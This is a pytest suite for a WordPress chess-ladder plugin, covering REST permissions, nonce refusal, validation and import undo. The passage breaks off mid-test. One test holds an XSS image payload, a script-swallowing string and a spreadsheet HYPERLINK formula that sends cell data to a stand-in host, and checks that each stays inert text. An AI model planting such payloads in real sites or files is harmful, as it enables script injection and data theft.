"""Ladders kept in the club's WordPress (issue 40): an Editor keeps a ladder through the admin page in Chromium
and through the REST routes (called in-process with `rest_do_request` after `wp_set_current_user`, which runs
their permission callbacks, and over HTTP for the nonce); the public page ranks the players as `elo-core ladder`
ranks the exported files, and a new result shows on a reload. Hostile input, other users and deleted ladders are
refused with a message that names the field, and leave the ladder and its files as they were.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any
from unittest.mock import ANY

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from elo_core.files.ledger import Ledger, read_ledger
from tests.browser.a11y import violations
from tests.wordpress.conftest import log_in
from tests.wordpress.host import MARIADB, PLUGIN, WordPress, php_quote

ROOT = Path(__file__).resolve().parents[2]
LADDER = ROOT / "tests" / "ladder"
GAMES, GAMES_DE, PLAYERS = LADDER / "club-games.csv", LADDER / "club-games-de.csv", LADDER / "club-players.csv"
EDITOR = ("secretary", "a-secretary-password-1")
# The ladder's rules, given to the CLI alike.
RULES = {"system": "elo", "k": "24", "provisional": "1", "inactive-months": "3"}
CLI_RULES = ["--system", "elo", "--k", "24", "--provisional", "1", "--inactive-months", "3"]


@pytest.fixture(scope="module")
def users(wordpress: WordPress) -> dict[str, int]:
    """An Editor (the results secretary), an Author, and a Contributor (whose role a test gives the capability to
    keep ladders, as an administrator gives it to any role)."""
    made = json.loads(wordpress.php(
        "$ids = array();"
        "foreach (array("
        f"'editor' => array('{EDITOR[0]}', '{EDITOR[1]}', 'Sam Secretary'), "
        "'author' => array('writer', 'a-writer-password-1', 'Wren Writer'), "
        "'contributor' => array('helper', 'a-helper-password-1', 'Hal Helper'))"
        " as $role => list($login, $pass, $name)) {"
        "  $user = get_user_by('login', $login);"
        "  $ids[$role] = $user ? $user->ID : wp_insert_user(array('user_login' => $login, 'user_pass' => $pass, "
        "    'role' => $role, 'display_name' => $name));"
        "}"
        "echo wp_json_encode($ids);"))
    assert all(isinstance(v, int) for v in made.values()), made
    return {role: int(user) for role, user in made.items()}


def rest(wordpress: WordPress, user: int, *calls: tuple[str, str, dict[str, Any] | None]) -> list[tuple[int, Any]]:
    """Each (method, route under elo-calculator/v1, JSON body) as `user` (0: a visitor), in one PHP run:
    each answer's status and data, as WordPress's REST server answers it."""
    return answered(wordpress.php(rest_code(user, calls), as_web=True))


def rest_code(user: int, calls: tuple[tuple[str, str, dict[str, Any] | None], ...]) -> str:
    code = f"wp_set_current_user({user}); $out = array();"
    for method, route, body in calls:
        code += (f"$r = new WP_REST_Request('{method}', {php_quote('/elo-calculator/v1' + route)});"
                 "$r->set_header('content-type', 'application/json');"
                 f"$r->set_body({php_quote(json.dumps(body or {}))});"
                 "$a = rest_do_request($r);"
                 "$out[] = array($a->get_status(), rest_get_server()->response_to_data($a, false));")
    return code + "echo wp_json_encode($out);"


def answered(printed: str) -> list[tuple[int, Any]]:
    return [(status, data) for status, data in json.loads(printed)]


def one(wordpress: WordPress, user: int, method: str, route: str,
        body: dict[str, Any] | None = None) -> tuple[int, Any]:
    return rest(wordpress, user, (method, route, body))[0]


def keeper(wordpress: WordPress, slug: str | None = None) -> str:
    """The address of the results keeper's admin page: its list of ladders, or one ladder's page (`slug`)."""
    page = f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders"
    return page if slug is None else f"{page}&ladder={slug}"


def fetched(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=30) as answer:  # the site's own loopback address
        return bytes(answer.read())


def file_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))


def files_folder(wordpress: WordPress, ladder: dict[str, Any]) -> Path:
    """The ladder's folder of files, as its files' address names it (its slug and a random part)."""
    return wordpress.root / "wp-content" / "uploads" / "elo-calculator" / str(ladder["csv_url"]).rsplit("/", 2)[1]


def keep_club_ladder(wordpress: WordPress, editor: int, name: str) -> dict[str, Any]:
    """A ladder made through the routes: the club's players, then each of its games as the file writes it."""
    status, ladder = one(wordpress, editor, "POST", "/ladders", {"name": name, **RULES})
    assert 201 == status, ladder
    calls: list[tuple[str, str, dict[str, Any] | None]] = [
        ("POST", f"/ladders/{ladder['slug']}/players", dict(p)) for p in file_rows(PLAYERS)]
    calls += [("POST", f"/ladders/{ladder['slug']}/games", g) for g in file_rows(GAMES)]
    answers = rest(wordpress, editor, *calls)
    assert [201] * len(calls) == [status for status, _ in answers], [a for a in answers if a[0] != 201]
    return dict(ladder)


def cli_ranking(games: bytes, players: bytes, tmp: Path, pool: str) -> list[tuple[str, str]]:
    """`python -m elo_core ladder` on the exported files: each ranked player's name and rating as shown."""
    (tmp / "games.csv").write_bytes(games)
    (tmp / "players.csv").write_bytes(players)
    run = subprocess.run([sys.executable, "-m", "elo_core", "ladder", str(tmp / "games.csv"), "--players",
                          str(tmp / "players.csv"), *CLI_RULES, "--pool", pool, "--json"],
                         capture_output=True, text=True, check=True, cwd=ROOT)
    return [(p["name"], f"{p['rating']:.0f}") for p in json.loads(run.stdout)["players"] if p["pool"] == pool]


def page_ranking(page: Page) -> list[tuple[str, str]]:
    frame = page.frame_locator("elo-calculator >> iframe")
    table = frame.get_by_role("table", name=re.compile(r"^Ranking \("))
    expect(table).to_be_visible(timeout=60_000)
    heads = [h.strip(" ↕▲▼") for h in table.locator(":scope > thead > tr > th").all_inner_texts()]
    rows: list[list[str]] = table.locator(":scope > tbody > tr").evaluate_all(
        "rows => rows.map(r => [...r.children].map(c => c.textContent))")
    named = [dict(zip(heads, row, strict=True)) for row in rows]
    return [(r["Name"], r["Rating"].replace(",", "")) for r in named]


def test_an_editor_keeps_a_ladder_through_the_routes_and_the_page_ranks_it_as_the_cli(
        page: Page, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
    ladder = keep_club_ladder(wordpress, users["editor"], "Club ladder")
    assert "club-ladder" == ladder["slug"]
    assert ladder["csv_url"].startswith(wordpress.origin + "/wp-content/uploads/")
    url = wordpress.add_page("Ladder", '[elo_calculator ladder="club-ladder" lang="en"]')
    page.goto(url)
    frame = page.frame_locator("elo-calculator >> iframe")
    expect(frame.get_by_role("heading", name="Club ladder", level=2)).to_be_visible(timeout=60_000)
    expect(frame.get_by_text(re.compile(r"^Last updated \w+ \d+, \d{4}$"))).to_be_visible()
    games, players = fetched(ladder["csv_url"]), fetched(ladder["players_url"])
    before = cli_ranking(games, players, tmp_path, "rapid")
    assert before == page_ranking(page)
    assert 7 == len(before)  # the rapid pool's players

    # A new result, entered by the Editor, is on the page at the next reload.
    status, game = one(wordpress, users["editor"], "POST", "/ladders/club-ladder/games",
                       {"date": "2026-03-03", "white": "eva müller", "black": "Anna Meier", "result": "1-0",
                        "pool": "rapid"})
    assert 201 == status and {"white": "EM", "black": "AM", "result": "1-0"}.items() <= game.items(), game
    page.reload()
    after = cli_ranking(fetched(ladder["csv_url"]), fetched(ladder["players_url"]), tmp_path, "rapid")
    assert after != before
    assert after == page_ranking(page)


def test_an_author_a_visitor_and_another_keeper_may_not_change_the_ladder(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Blitz ladder", **RULES})
    assert 201 == status
    slug = ladder["slug"]
    player = {"id": "AM", "name": "Anna Meier"}
    game = {"date": "2026-03-03", "white": "AM", "black": "BK", "result": "1-0"}
    rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/players", player),
         ("POST", f"/ladders/{slug}/players", {"id": "BK", "name": "Ben Keller"}))
    changes: list[tuple[str, str, dict[str, Any] | None]] = [
        ("POST", "/ladders", {"name": "Mine"}), ("PUT", f"/ladders/{slug}", {"k": "40"}),
        ("DELETE", f"/ladders/{slug}", None), ("POST", f"/ladders/{slug}/players", {"name": "Zed"}),
        ("POST", f"/ladders/{slug}/games", game), ("POST", f"/ladders/{slug}/import", {"games": "2026-03-03,AM,BK,1"}),
        ("PUT", f"/ladders/{slug}/players", {"id": "AM", "name": "Anna M.", "expect": {"name": "Anna Meier"}}),
        ("DELETE", f"/ladders/{slug}/players", {"id": "BK"}), ("DELETE", f"/ladders/{slug}/import/1", None)]
    before = fetched(ladder["csv_url"])
    assert [403] * len(changes) == [s for s, _ in rest(wordpress, users["author"], *changes)]
    assert [401] * len(changes) == [s for s, _ in rest(wordpress, 0, *changes)]
    assert 401 == one(wordpress, 0, "GET", f"/ladders/{slug}")[0]
    assert 200 == one(wordpress, users["author"], "GET", f"/ladders/{slug}")[0]  # the block's ladder choice reads it

    # A Contributor whose role keeps ladders keeps their own, and not the Editor's. (Given here: the uninstall
    # test, which may run first, takes the capabilities away.)
    wordpress.php("get_role('contributor')->add_cap('elo_calculator_keep_ladders');")
    status, own = one(wordpress, users["contributor"], "POST", "/ladders", {"name": "Helper's ladder"})
    assert 201 == status and users["contributor"] == own["owner"], own
    answers = rest(wordpress, users["contributor"], *changes[1:])
    assert [403] * (len(changes) - 1) == [s for s, _ in answers]
    assert "kept by another user" in answers[0][1]["message"]
    assert before == fetched(ladder["csv_url"])
    assert 0 == len(one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[1]["games"])
    # Their admin page shows the Editor's ladder to read, with no form every change would refuse (it opened on
    # "Not saved: This ladder is kept by another user", every form there: a hostile pass); their own to keep.
    assert (False, True) == tuple(one(wordpress, users["contributor"], "GET", f"/ladders/{s}")[1]["may_keep"]
                                  for s in (slug, own["slug"]))
    context = log_in(browser, wordpress, "helper", "a-helper-password-1")
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, slug))
        expect(page.get_by_text("This ladder is kept by another user")).to_be_visible()
        expect(page.get_by_role("cell", name="Anna Meier")).to_be_visible()
        expect(page.get_by_text("Not saved")).to_have_count(0)
        expect(page.get_by_role("button", name="White won 1-0")).to_have_count(0)
        expect(page.get_by_role("button", name="Delete this ladder")).to_have_count(0)
        page.goto(keeper(wordpress, own['slug']))
        expect(page.get_by_role("button", name="White won 1-0")).to_be_visible()
    finally:
        context.close()


@pytest.mark.parametrize(("sent", "field", "message"), [
    ({"date": "2026-02-30"}, "date", "date: a date as YYYY-MM-DD"),
    ({"date": "0001-01-01"}, "date", "from 1850 to "),
    ({"result": "0.7"}, "result", "result: a result such as 1-0"),
    ({"result": ["1"]}, "result", "result:"),
    ({"black": "AM"}, "black", "cannot play themselves"),
    ({"white": "Nobody"}, "white", 'no player "Nobody": add the player first'),
    ({"white": ""}, "white", "give a player"),
    ({"pool": "x" * 41}, "pool", "at most 40 characters"),
])
def test_a_bad_game_is_refused_naming_its_field_and_nothing_is_written(
        wordpress: WordPress, users: dict[str, int], sent: dict[str, Any], field: str, message: str) -> None:
    slug = "bad-input-ladder"
    if 404 == one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[0]:
        assert 201 == one(wordpress, users["editor"], "POST", "/ladders", {"name": "Bad input ladder"})[0]
        rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/players", {"id": "AM", "name": "Anna"}),
             ("POST", f"/ladders/{slug}/players", {"id": "BK", "name": "Ben"}))
    ladder = one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[1]
    before = fetched(ladder["csv_url"]), ladder["games"]
    status, answer = one(wordpress, users["editor"], "POST", f"/ladders/{slug}/games",
                         {"date": "2026-03-03", "white": "AM", "black": "BK", "result": "1", **sent})
    assert 400 == status, answer
    assert field == answer["data"]["field"] and message in answer["message"], answer
    after = one(wordpress, users["editor"], "GET", f"/ladders/{slug}")[1]["games"]
    assert before == (fetched(ladder["csv_url"]), after)


def test_hostile_names_are_text_everywhere_and_formulas_are_kept_as_text_in_the_files(
        browser: Browser, wordpress: WordPress, users: dict[str, int], tmp_path: Path) -> None:
    html = '<img src=x onerror="window.pwned=1">'
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    # `<!--<script>` in an inline script's JSON would swallow the next script (WordPress before 7.0 leaves `<`).
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": f"<!--<script>{html} ladder"})
    assert 201 == status
    slug = ladder["slug"]
    assert re.fullmatch(r"[a-z0-9-]+", slug)
    long = one(wordpress, users["editor"], "POST", f"/ladders/{slug}/players", {"name": "x" * 10_000})
    assert 400 == long[0] and "name" == long[1]["data"]["field"] and "at most 100 characters" in long[1]["message"]
    assert 400 == one(wordpress, users["editor"], "POST", "/ladders", {"name": "y" * 10_000})[0]
    answers = rest(wordpress, users["editor"], ("POST", f"/ladders/{slug}/players", {"id": "H", "name": html}),
                   ("POST", f"/ladders/{slug}/players", {"id": "=F", "name": formula}),
                   ("POST", f"/ladders/{slug}/games",
                    {"date": "2026-03-03", "white": "H", "black": "=F", "result": "½"}))
    assert [201, 201, 201] == [s for s, _ in answers], answers
    players = fetched(ladder["players_url"])
    assert b'\r\n\'=F,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,yes\r\n' in players
    assert b"2026-03-03,H,'=F,1/2-1/2" in fetched(ladder["csv_url"])
    read = read_ledger(fetched(ladder["csv_url"]), players)  # the ladder view's reader drops the apostrophe
    assert [html, formula] == [p.name for p in read.players]

    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress, slug))
        expect(page.get_by_role("heading", name=f"<!--<script>{html} ladder")).to_be_visible()
        page.goto(f"{wordpress.origin}/wp-admin/admin.php?page=elo-calculator-ladders&ladder[]=x")  # no fatal error
        expect(page.get_by_role("link", name=f"<!--<script>{html} ladder")).to_be_visible()
        page.goto(f"{wordpress.origin}/wp-admin/post-new.php")  # the block editor, the ladders in its config
        # The block's script ran after the inline config that holds the name (an unescaped `<!--<script>` eats it).
        page.wait_for_function("() => window.wp?.blocks?.getBlockType('elo-calculator/calculator')")
        assert page.evaluate("Object.values(window.eloCalculatorEditor.choices.ladder)").count(
            f"<!--<script>{html} ladder") == 1
        page.goto(keeper(wordpress, slug))
        expect(page.get_by_label("Name H", exact=True)).to_have_value(html)
        expect(page.locator(".elo-games")).to_contain_text(html)
        expect(page.locator(".elo-games")).to_contain_text(formula)
        assert 0 == page.locator("img[src=x]").count()
        url = wordpress.add_page("Hostile", f'[elo_calculator ladder="{slug}" lang="en"]')
        page.goto(url)
        frame = page.frame_locator("elo-calculator >> iframe")
        expect(frame.get_by_role("table", name=re.compile(r"^Ranking \("))).to_contain_text(html, timeout=60_000)
        assert 0 == frame.locator("img[src=x]").count() + page.locator("img[src=x]").count()
        assert page.evaluate("window.pwned") is None
    finally:
        context.close()


def test_a_request_from_the_editor_s_browser_without_the_nonce_is_refused(
        browser: Browser, wordpress: WordPress, users: dict[str, int]) -> None:
    """Cookies alone (what a hostile page's form or fetch would send) are a visitor's request to WordPress."""
    context = log_in(browser, wordpress, *EDITOR)
    try:
        page = context.new_page()
        page.goto(keeper(wordpress))
        expect(page.get_by_role("heading", name="New ladder")).to_be_visible()
        endpoint = f"{wordpress.origin}/?rest_route=/elo-calculator/v1/ladders"  # the site has no pretty links
        refused = context.request.post(endpoint, data={"name": "Forged ladder"})
        assert 401 == refused.status, refused.text()
        form = context.request.post(endpoint, form={"name": "Forged ladder"})
        assert 401 == form.status
        nonce = page.evaluate("wp.apiFetch.nonceMiddleware.nonce")
        made = context.request.post(endpoint, data={"name": "Nonce ladder"}, headers={"X-WP-Nonce": nonce})
        assert 201 == made.status, made.text()
        names = [ladder["name"] for ladder in one(wordpress, users["editor"], "GET", "/ladders")[1]]
        assert "Nonce ladder" in names and "Forged ladder" not in names
    finally:
        context.close()


def test_a_deleted_ladder_s_slug_names_nothing_and_its_page_says_so(
        page: Page, wordpress: WordPress, users: dict[str, int]) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Old ladder"})
    assert 201 == status
    slug = ladder["slug"]
    folder = files_folder(wordpress, ladder)
    assert (folder / "games.csv").exists()
    url = wordpress.add_page("Old", f'[elo_calculator ladder="{slug}" lang="en"]')
    assert 200 == one(wordpress, users["editor"], "DELETE", f"/ladders/{slug}")[0]
    assert not folder.exists()
    answers = rest(wordpress, users["editor"], ("GET", f"/ladders/{slug}", None),
                   ("POST", f"/ladders/{slug}/games",
                    {"date": "2026-03-03", "white": "A", "black": "B", "result": "1"}),
                   ("DELETE", f"/ladders/{slug}", None), ("GET", f"/ladders/{slug}/history", None))
    assert [404] * 4 == [s for s, _ in answers]
    assert "slug" == answers[0][1]["data"]["field"]
    page.goto(url)
    expect(page.get_by_text("This ladder is no longer kept on this site.")).to_be_visible()
    assert 0 == page.locator("elo-calculator").count()


def same_ledger(first: Ledger, second: Ledger) -> None:
    def games(ledger: Ledger) -> list[tuple[Any, ...]]:
        return sorted((g.date, g.white, g.black, g.score, g.forfeit, g.pool) for g in ledger.games)

    assert games(first) == games(second)
    assert [(p.id, p.name, p.rating, p.active) for p in first.players] == [
        (p.id, p.name, p.rating, p.active) for p in second.players]


@pytest.mark.parametrize("games", [GAMES, GAMES_DE], ids=["comma", "german-excel"])
def test_the_club_s_files_imported_come_back_from_the_export_with_the_same_games_and_players(
        wordpress: WordPress, users: dict[str, int], games: Path) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": f"Import {games.stem}"})
    assert 201 == status
    status, done = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import",
                       {"games": games.read_bytes().decode("utf-8"), "players": PLAYERS.read_text(encoding="utf-8")})
    original = read_ledger(games.read_bytes(), PLAYERS.read_bytes())
    expected = {"games": len(original.games), "players": len(original.players), "repeated": 0, "import": ANY}
    assert (200, expected) == (status, done), done
    exported = read_ledger(fetched(ladder["csv_url"]), fetched(ladder["players_url"]))
    same_ledger(original, exported)
    assert [] == [p.code for p in exported.problems if p.code != "repeated_game"]


def test_an_import_with_a_bad_line_is_refused_whole_naming_the_line_and_long_new_names_get_an_id_cut_to_fit(
        wordpress: WordPress, users: dict[str, int]) -> None:
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Half import"})
    assert 201 == status
    text = "date,white,black,result\n2026-03-03,Anna,Ben,1\n2026-03-10,Anna,Ben,0.7\n2026-13-01,Ben,Anna,0\n"
    status, answer = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import", {"games": text})
    assert 400 == status and "games" == answer["data"]["field"]
    assert "line 3: result:" in answer["message"] and "line 4: date:" in answer["message"], answer
    got = one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]
    assert ([], []) == (got["games"], got["players"])
    # New players' names of 71 and 66 characters, too long to be their id: their id is the name cut to fit, as on the
    # page (it was refused, then said to be too long), the second's with ~2 (its first 64 characters are the first's);
    # the file's next lines name them again, by name (written with a double space too: one player, rv88).
    long = "Maximilian Alexander von Hohenzollern-Sigmaringen und Wittelsbach-Baden"
    status, answer = one(wordpress, users["editor"], "POST", f"/ladders/{ladder['slug']}/import",
                         {"games": f"date,white,black,result\n2026-03-03,{long},Ben,1\n"
                                   f"2026-03-04,{long[:66]},{long},½-½\n2026-03-05,Ben,{long[:66]},0\n"
                                   f"2026-03-06,{long.replace(' ', '  ', 1)},Ben,1\n"})  # its spaces as the page reads
    assert (200, 4) == (status, answer["games"]), answer
    got = one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]
    players = {p["id"]: p["name"] for p in got["players"]}
    assert {long[:64]: long, long[:62] + "~2": long[:66], "Ben": "Ben"} == players
    pairs = [(long[:64], "Ben"), (long[:62] + "~2", long[:64]), ("Ben", long[:62] + "~2"), (long[:64], "Ben")]
    assert sorted(pairs) == sorted((g["white"], g["black"]) for g in got["games"])


def test_a_file_imported_again_adds_only_the_games_the_ladder_does_not_keep(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """The club's results file imported twice doubled every game (a hostile pass): the ranking counted each twice. A
    game the ladder keeps already (date, players, result, pool) is not added again, and the answer says how many
    were not; the file grown by a week adds that week; a game the file holds twice is kept twice."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Imported twice"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}/import"
    games = GAMES.read_text(encoding="utf-8")
    first, again = rest(wordpress, users["editor"], *[("POST", route, {"games": games})] * 2)
    assert first == (200, {"games": 28, "players": 7, "repeated": 0, "import": ANY}), first
    assert again == (200, {"games": 0, "players": 0, "repeated": 28, "import": ANY}), again
    week = "2026-03-31,AM,BK,1-0,rapid\n"
    status, grown = one(wordpress, users["editor"], "POST", route, {"games": games + week + week})
    assert (status, grown) == (200, {"games": 2, "players": 0, "repeated": 28, "import": ANY})
    status, once_more = one(wordpress, users["editor"], "POST", route, {"games": games + week + week + week})
    assert (status, once_more) == (200, {"games": 1, "players": 0, "repeated": 30, "import": ANY})
    assert 31 == len(one(wordpress, users["editor"], "GET", f"/ladders/{ladder['slug']}")[1]["games"])
    # Results pasted on the page are each a game played: one like a game kept is added (a review).
    pasted = one(wordpress, users["editor"], "POST", route, {"games": week, "new_players": False})
    assert pasted == (200, {"games": 1, "players": 0, "repeated": 0, "import": ANY})


def test_an_import_undone_takes_off_what_it_added_puts_back_what_it_changed_and_keeps_what_came_since(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """hp115: a wrong file imported could only be taken off game by game. Its Undo takes off the games it added (one
    deleted on the page since too) and the players it added who have no game left; puts back the players it changed,
    unless changed again since; and says what it kept. The same file imported again then adds its games again."""
    editor = users["editor"]
    status, ladder = one(wordpress, editor, "POST", "/ladders", {"name": "Wrong file"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    before = rest(wordpress, editor, ("POST", route + "/players", {"id": "anna", "name": "Anna", "rating": "1500"}),
                  ("POST", route + "/players", {"id": "ben", "name": "Ben", "rating": "1400"}),
                  ("POST", route + "/players", {"id": "eve", "name": "Eve", "rating": "1450"}),
                  ("POST", route + "/games", {"date": "2026-03-01", "white": "anna", "black": "ben", "result": "1-0"}))
    assert [201] * 4 == [status for status, _ in before], before
    games = "2026-03-02,anna,ben,0-1\n2026-03-02,anna,cy,1-0\n2026-03-03,dee,cy,1/2-1/2\n"
    players = "id,name,rating\nben,Ben Brown,1600\neve,Eve,1700\ncy,Cy,1300\ndee,Dee,\nfay,Fay,1200\n"
    status, done = one(wordpress, editor, "POST", route + "/import", {"games": games, "players": players})
    assert (200, {"games": 3, "players": 3, "repeated": 0, "import": ANY}) == (status, done)
    assert isinstance(done["import"], int) and done["import"] > 0, done
    # Since the import: a game of it deleted on the page, a game entered for a player it added, a player it changed
    # changed again, a player it added changed (Cy, whose games were all the file's).
    kept = one(wordpress, editor, "GET", route)[1]
    imported_draw = next(g for g in kept["games"] if g["white"] == "dee")
    since = rest(wordpress, editor, ("DELETE", f"{route}/games/{imported_draw['id']}", None),
                 ("POST", route + "/games", {"date": "2026-03-04", "white": "anna", "black": "dee", "result": "0-1"}),
                 ("PUT", route + "/players", {"id": "eve", "name": "Eve Ng"}),
                 ("PUT", route + "/players", {"id": "cy", "rating": "1350"}))
    assert [200, 201, 200, 200] == [status for status, _ in since], since

    undo = f"{route}/import/{done['import']}"
    answers = rest(wordpress, editor, ("DELETE", undo, None), ("DELETE", undo, None),
                   ("DELETE", f"{route}/import/{done['import'] + 1000}", None), ("GET", route, None),
                   ("GET", route + "/history", None))
    # Its 3 games: 2 on the ladder (the third was deleted on the page), gone with it; of its players, Fay.
    undone = {"games": 2, "players": 1, "restored": 1, "kept": ["Cy", "Dee", "Eve Ng"], "kept_total": 3}
    assert (200, undone) == answers[0]
    assert (409, "This import was undone already.") == (answers[1][0], answers[1][1]["message"])
    assert (404, "This ladder has no such import.") == (answers[2][0], answers[2][1]["message"])
    now = answers[3][1]
    assert [("anna", "Anna", "1500"), ("ben", "Ben", "1400"), ("eve", "Eve Ng", "1700"), ("cy", "Cy", "1350"),
            ("dee", "Dee", "")] == [(p["id"], p["name"], p["rating"]) for p in now["players"]]
    assert [("2026-03-01", "anna", "ben", "1-0"), ("2026-03-04", "anna", "dee", "0-1")] == sorted(
        (g["date"], g["white"], g["black"], g["result"]) for g in now["games"])
    history = answers[4][1]
    assert ("import_undone", False) == (history[0]["action"], history[0]["undoable"])
    assert {**undone, "import": done["import"]} == history[0]["detail"]
    imported = next(e for e in history if e["action"] == "imported")
    assert (done["import"], False, True) == (imported["id"], imported["undoable"], imported["detail"]["undone"])
    assert "undo" not in imported["detail"]  # every change, for the Undo alone, is not in the history
    # The ladder's files, as visitors' browsers read them, are the ladder's again.
    folder = files_folder(wordpress, ladder)
    assert ["Anna", "Ben", "Eve Ng", "Cy", "Dee"] == [row["name"] for row in file_rows(folder / "players.csv")]
    assert 2 == len(file_rows(folder / "games.csv"))

    # Imported again, the file adds its games again (none is taken for kept), and this import may be undone.
    status, again = one(wordpress, editor, "POST", route + "/import", {"games": games, "players": players})
    assert (200, 3, 1, 0) == (status, again["games"], again["players"], again["repeated"]), again
    assert again["import"] > done["import"]
    entry = next(e for e in one(wordpress, editor, "GET", route + "/history")[1] if e["id"] == again["import"])
    assert ("imported", True) == (entry["action"], entry["undoable"])
    # An import that adds and changes nothing has no Undo.
    status, nothing = one(wordpress, editor, "POST", route + "/import", {"games": games})
    assert (200, 0, 3, None) == (status, nothing["games"], nothing["repeated"], nothing["import"]), nothing


def test_an_import_undone_keeps_each_player_s_name_one_player_s_and_waits_for_a_later_import_that_counted_its_games(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """rv92: a player put back under a name another player has taken since made two players of one name (results
    then went to either, and the ladder refused every import). Such a player is kept as they are, and said. An
    earlier import undone while a later one had found its games on the ladder (a club's growing file, imported each
    week) took those games off though the later file holds them: refused, until the later import is undone."""
    editor = users["editor"]
    status, ladder = one(wordpress, editor, "POST", "/ladders", {"name": "Name taken"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    made = rest(wordpress, editor, ("POST", route + "/players", {"id": "b1", "name": "Ben"}),
                ("POST", route + "/players", {"id": "d1", "name": "Dee"}),
                ("POST", route + "/players", {"id": "s1", "name": "Sam"}),
                ("POST", route + "/players", {"id": "s2", "name": "Sue"}))
    assert [201] * 4 == [status for status, _ in made], made
    week1 = "date,white,black,result\n2026-03-02,b1,d1,1-0\n"
    status, first = one(wordpress, editor, "POST", route + "/import",
                        {"games": week1, "players": "id,name\nb1,Ben Brown\nd1,Dora\ns1,Sue\ns2,Sam\n"})
    assert (200, 1) == (status, first["games"]), first
    # A wrong file of another week in between: the later import finds none of its games.
    status, other = one(wordpress, editor, "POST", route + "/import", {"games": "2026-03-03,s1,s2,0-1\n"})
    assert (200, 1) == (status, other["games"]), other
    # Since: "Ben" is another player's name, "Dee" another's id.
    taken = rest(wordpress, editor, ("POST", route + "/players", {"id": "b2", "name": "Ben"}),
                 ("POST", route + "/players", {"id": "dee", "name": "Deena"}))
    assert [201, 201] == [status for status, _ in taken], taken
    status, second = one(wordpress, editor, "POST", route + "/import",
                         {"games": week1 + "2026-03-09,d1,b1,1-0\n"})  # the file grown by a week
    assert (200, 1, 1) == (status, second["games"], second["repeated"]), second
    # The wrong file first: the later import found none of its games, so it waits for nothing.
    undo_other = one(wordpress, editor, "DELETE", f"{route}/import/{other['import']}")
    assert (200, 1) == (undo_other[0], undo_other[1]["games"]), undo_other
    answers = rest(wordpress, editor, ("DELETE", f"{route}/import/{first['import']}", None),
                   ("DELETE", f"{route}/import/{second['import']}", None),
                   ("DELETE", f"{route}/import/{first['import']}", None), ("GET", route, None))
    assert 409 == answers[0][0]
    assert re.fullmatch(r"The import of \d{4}-\d\d-\d\d \d\d:\d\d found games of this one on the ladder already and "
                        r"did not add them: undo that import first, or its file would lose them\.",
                        answers[0][1]["message"]), answers[0]
    assert (200, 1) == (answers[1][0], answers[1][1]["games"])
    # Sam and Sue, whose names the file swapped, are put back both (one at a time, each found the other's name).
    assert (200, {"games": 1, "players": 0, "restored": 2, "kept": ["Ben Brown", "Dora"], "kept_total": 2}) \
        == answers[2]
    assert [("b1", "Ben Brown"), ("d1", "Dora"), ("s1", "Sam"), ("s2", "Sue"), ("b2", "Ben"), ("dee", "Deena")] == [
        (p["id"], p["name"]) for p in answers[3][1]["players"]]
    assert [] == answers[3][1]["games"]


def test_an_update_adds_what_imports_keep_and_an_import_made_before_it_says_why_it_has_no_undo(
        wordpress: WordPress, users: dict[str, int]) -> None:
    """A site updated from a version whose imports kept nothing of what they added (tables of version 4): the next
    request adds the columns, and an import made before says why it cannot be undone, and offers no Undo."""
    status, ladder = one(wordpress, users["editor"], "POST", "/ladders", {"name": "Kept since 2025"})
    assert 201 == status
    route = f"/ladders/{ladder['slug']}"
    ladder_id = wordpress.php(f"echo elo_calculator_ladder({php_quote(ladder['slug'])})['id'];")
    old = wordpress.php(  # an import as version 4 logged it, then its tables
        f"echo elo_calculator_log({ladder_id}, 'imported', array('games' => 1, 'players' => 0, 'repeated' => 0, "
        "'changed' => 0, 'added' => array(), 'changes' => array()));"
        "global $wpdb; $wpdb->query('ALTER TABLE ' . elo_calculator_table('games') . ' DROP INDEX ladder_batch');"
        "foreach (array('games', 'players') as $t) {"
        "  $wpdb->query('ALTER TABLE ' . elo_calculator_table($t) . ' DROP COLUMN batch'); }"
        "$wpdb->query('ALTER TABLE ' . elo_calculator_table('log') . ' DROP COLUMN undo_data');"
        "update_option('elo_calculator_db_version', '4');")
    columns = wordpress.php(  # a request: WordPress's `init` brings the tables up to date
        "global $wpdb; echo get_option('elo_calculator_db_version'), ' ';"
        "foreach (array('games' => 'batch', 'players' => 'batch', 'log' => 'undo_data') as $t => $c) {"
        "  echo count($wpdb->get_results('SHOW COLUMNS FROM ' . elo_calculator_table($t) . \" LIKE '$c'\")); }"
        "echo ' ', count($wpdb->get_results('SHOW INDEX FROM ' . elo_calculator_table('games') . \""
        " WHERE Key_name = 'ladder_batch'\"));")
